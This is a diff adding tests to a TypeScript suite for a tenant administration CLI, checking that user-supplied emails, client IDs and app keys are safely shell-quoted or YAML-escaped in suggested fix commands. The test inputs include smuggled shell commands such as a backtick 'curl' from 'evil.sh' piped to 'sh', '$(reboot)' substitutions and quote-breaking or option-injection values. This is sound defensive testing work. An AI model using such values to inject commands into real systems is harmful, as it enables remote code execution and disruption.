@@ -2,8 +2,12 @@ import assert from "node:assert/strict";
 import { describe, test } from "node:test";
 import { stripVTControlCharacters } from "node:util";
 import type { Activity } from "@doorcode/tenant/operator";
+import { parse } from "yaml";
+import type { Refusal } from "../../../tenant/src/directory/access-rules.ts";
+import { protocolErrors } from "../../../tenant/src/oauth/protocol-error.ts";
 import { AUDIT_EVENTS } from "../../../tenant/src/storage/audit-events.ts";
 import { describeActivity } from "../../src/tenant/describe-activity.ts";
+import { mends } from "../../src/tenant/mend.ts";
 import { activityLines } from "../../src/tenant/show-activity.ts";
 
 const ada: Activity = {
@@ -109,6 +113,41 @@ describe("the activity of a tenant, in words", () => {
     ]);
     assert.deepEqual(refusal("code_unknown", "The authorization code is unknown.").mend, []);
     assert.deepEqual(refusal("constructor", "Not an own member.").mend, []);
+  });
+
+  test("quotes what a stranger chose: a shell runs none of it, and YAML reads a text", () => {
+    const run = (user: string) => refusal("user_disabled", "Disabled.", { user }).mend[0];
+    const enable = "Run: doorcode tenant users enable";
+    assert.equal(run("`curl${IFS}evil.sh|sh`@a.example"), `${enable} '\`curl\${IFS}evil.sh|sh\`@a.example'`);
+    assert.equal(run("$(reboot)@a.example"), `${enable} '$(reboot)@a.example'`);
+    // Each shell ends quotes in its own way, and an address must be no option.
+    for (const user of ["o'brien|sh@a.example", "\u2019;sh@a.example", "a\\'b@a.example", "--data=x@a.example"]) {
+      assert.equal(run(user), `${enable} EMAIL`, user);
+    }
+    assert.equal(
+      refusal("secret_wrong", "Wrong.", { client_id: "$(reboot)" }).mend[0],
+      "Run: doorcode tenant apps add-secret '$(reboot)'",
+    );
+    for (const app_key of ["null", "true", "No", "1e3", "- x", "a: b", "", "#x", "a]", '"']) {
+      const { mend } = refusal("not_assigned", "No.", { app_key, user: "no" });
+      const { apps } = parse(mend.slice(1).join("\n").replaceAll(/^ {2}/gm, ""));
+      assert.deepEqual(apps, { [app_key]: { assignedTo: ["no"] } });
+    }
+    const scope = refusal("scope_invalid", "Not valid: null is not a scope of api://f1d21f41.").mend;
+    assert.equal(scope.at(-1), '        "null": { displayName: What it permits }');
+  });
+
+  test("knows the names of the protocol and of the access rule, and no others", () => {
+    const ofTheRule: Record<Refusal, boolean> = {
+      ...{ user_unknown: false, user_disabled: true, app_unknown: true, app_disabled: false, grant_not_allowed: true },
+      ...{ login_required: false, not_assigned: true, sign_in_method_required: true, second_factor_required: true },
+      ...{ details_required: true, administrator_required: true, administration_not_allowed: true },
+      ...{ scope_unavailable: true, consent_required: true },
+    };
+    const known = [...Object.keys(protocolErrors), ...Object.keys(ofTheRule), "user_code_unknown"];
+    for (const name of Object.keys(mends)) assert.ok(known.includes(name), name);
+    for (const [name, isMended] of Object.entries(ofTheRule)) assert.equal(Object.hasOwn(mends, name), isMended, name);
+    assert.deepEqual(refusal("consent_required", "Something was withdrawn.").mend, []);
   });
 
   test("shows no control characters of a name or a request", () => {
